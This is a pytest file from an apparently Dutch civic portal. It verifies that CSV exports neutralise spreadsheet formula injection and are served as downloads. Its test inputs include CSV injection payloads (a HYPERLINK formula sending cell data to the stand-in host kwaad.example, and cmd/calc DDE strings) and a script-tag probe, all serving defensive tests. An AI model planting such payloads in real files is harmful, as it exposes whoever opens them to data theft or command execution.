"""CSV formula injection: what a resident types runs as no formula on the computer of who opens an export."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kern.csv import BOM, als_csv, csv_antwoord
from wijkportaal.omgeving import WORTEL

APPS = ("kern", "wijken", "rollen", "initiatieven", "agendas", "budgetten", "rapportages", "wijkportaal")
GEVAARLIJK = ("=", "+", "-", "@", "\t", "\r", "\n")


def gelezen(rijen: list[list[str]]) -> list[list[str]]:
    """What a spreadsheet reads from the file."""
    tekst = "".join(als_csv(["Kop"], rijen)).removeprefix(BOM)
    return list(csv.reader(io.StringIO(tekst, newline=""), delimiter=";"))[1:]


@pytest.mark.parametrize(
    "formule",
    [
        '=HYPERLINK("https://kwaad.example?"&A1;"Klik")',
        "=cmd|' /C calc'!A0",
        "+31612345678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        '";=1+1;"',
        '"=1+1',
    ],
)
def test_een_formule_van_een_inwoner_wordt_in_een_export_gewone_tekst(formule: str) -> None:
    (rij,) = gelezen([[formule, "daarna"]])
    assert rij[1:] == ["daarna"]  # it stays one cell
    assert not rij[0].lstrip(" ").startswith(GEVAARLIJK)
    assert formule in rij[0]


@given(st.lists(st.lists(st.text(max_size=40), min_size=2, max_size=2), max_size=4))
def test_geen_enkele_cel_begint_als_een_formule_en_niets_schuift_op(rijen: list[list[str]]) -> None:
    terug = gelezen(rijen)
    assert [len(rij) for rij in terug] == [2] * len(rijen)
    for rij, uit in zip(rijen, terug, strict=True):
        for cel, gevonden in zip(rij, uit, strict=True):
            assert not gevonden.lstrip(" ").startswith(GEVAARLIJK)
            assert gevonden in (cel, f"'{cel}")


def test_een_kop_die_een_mens_koos_is_ook_veilig() -> None:
    assert "".join(als_csv(["=1+1"], [])).startswith(BOM + '"\'=1+1"')


def test_een_export_is_een_bestand_en_geen_pagina() -> None:
    antwoord = csv_antwoord("lijst", ["Kop"], [["<script>alert(1)</script>"]])
    assert antwoord["Content-Disposition"] == 'attachment; filename="lijst.csv"'
    assert antwoord["Content-Type"].startswith("text/csv")
    assert antwoord["X-Content-Type-Options"] == "nosniff"


def test_elke_export_gaat_door_dezelfde_deur() -> None:
    """Whoever writes a new export without `kern.csv` is found here."""
    zelf = re.compile(
        r"^\s*(?:import csv|from csv import)|csv\.(?:Dict)?[wW]riter|text/csv|openpyxl|xlsx", re.M
    )
    gevonden = {
        str(bestand.relative_to(WORTEL))
        for app in APPS
        for bestand in (WORTEL / app).rglob("*.py")
        if zelf.search(bestand.read_text())
    }
    assert gevonden == {"kern/csv.py"}
    roepen = {
        str(bestand.relative_to(WORTEL))
        for app in APPS
        for bestand in (WORTEL / app).rglob("*.py")
        if "csv_antwoord(" in bestand.read_text()
    } - {"kern/csv.py"}
    assert "budgetten/views/publiek.py" in roepen
